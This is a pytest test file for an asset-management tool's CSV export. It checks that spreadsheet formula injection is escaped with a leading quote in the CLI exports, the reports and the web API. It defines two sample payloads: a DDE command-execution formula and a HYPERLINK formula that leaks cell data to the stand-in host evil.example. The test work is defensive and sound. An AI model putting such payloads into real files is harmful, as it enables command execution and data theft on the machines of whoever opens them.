"""Spreadsheet formula injection (OWASP "CSV Injection"): a source value that a spreadsheet would run as a
formula comes out of every CSV (`export --format csv`, the reports' CSV in the CLI and the web API) as text,
behind a single quote; real numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest
from fastapi.testclient import TestClient

from itam_sync.model.csv_safety import csv_cell, escape_formula
from itam_sync.web import create_app

EVIL_MODEL = "=cmd|' /C calc'!A0"
EVIL_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("MacBook", "MacBook"), ("", ""), (None, ""), (-5, -5), (-2.5, -2.5), (Decimal("-3"), Decimal("-3")),
    (3, 3), (True, "True"), (["-a", "b"], "'-a;b"), (["a", "=b"], "a;=b"), ("a=b", "a=b"),
])
def test_csv_cell(value: Any, cell: Any) -> None:
    assert csv_cell(value) == cell


def test_escape_formula_is_idempotent_on_safe_text() -> None:
    assert escape_formula("'=x") == "'=x"  # already escaped: starts with a quote, left alone
    assert escape_formula(escape_formula("=x")) == "'=x"


def _poison(demo) -> None:  # type: ignore[no-untyped-def]
    """Carla's laptop model (procurement wins it) and her job title (HR) become formulas."""
    for name, col, key_col, key, value in (("procurement.csv", "model", "serial", "FVFXC2ABJ1WK", EVIL_MODEL),
                                           ("hr_people.csv", "job_title", "employee_id", "E1003", EVIL_TITLE)):
        path = demo.data / name
        rows = list(csv.DictReader(io.StringIO(path.read_text())))
        assert [r for r in rows if r[key_col].strip() == key]
        for r in rows:
            if r[key_col].strip() == key:
                r[col] = value
        buf = io.StringIO()
        w = csv.DictWriter(buf, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
        path.write_text(buf.getvalue())
    assert demo.cli("run", "--full", "-q").exit_code == 0


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_exports_and_reports_escape_formulas(demo) -> None:  # type: ignore[no-untyped-def]
    _poison(demo)
    assets = _rows(demo.cli("export", "--entity", "assets", "--format", "csv").output)
    carla = next(r for r in assets if r["serial_number"] == "FVFXC2ABJ1WK")
    assert carla["model"] == "'" + EVIL_MODEL
    assert all(not v.startswith(("=", "+", "@")) for r in assets for v in r.values())
    people = _rows(demo.cli("export", "--entity", "people", "--format", "csv").output)
    assert next(r for r in people if r["email"] == "carla.diaz@example.com")["title"] == "'" + EVIL_TITLE
    # The JSON export keeps the value as it is: JSON is no spreadsheet.
    assert EVIL_MODEL.replace('"', '\\"') in demo.cli("export", "--entity", "assets").output

    gaps = _rows(demo.cli("report", "coverage-gaps", "--format", "csv").output)
    assert next(r for r in gaps if r["serial_number"] == "FVFXC2ABJ1WK")["model"] == "'" + EVIL_MODEL
    off = _rows(demo.cli("report", "offboarding", "--format", "csv").output)
    row = next(r for r in off if r["serial_number"] == "FVFXC2ABJ1WK")
    assert row["model"] == "'" + EVIL_MODEL and row["purchase_cost"] == "999.0"  # a number stays a number

    store = demo.store()
    try:
        with TestClient(create_app(demo.settings(), tokens=[], store=store), base_url="http://127.0.0.1") as web:
            r = web.get("/api/v1/reports/coverage-gaps?format=csv")
            assert r.status_code == 200
            assert next(x for x in _rows(r.text) if x["serial_number"] == "FVFXC2ABJ1WK")["model"] == (
                "'" + EVIL_MODEL)
    finally:
        store.close()
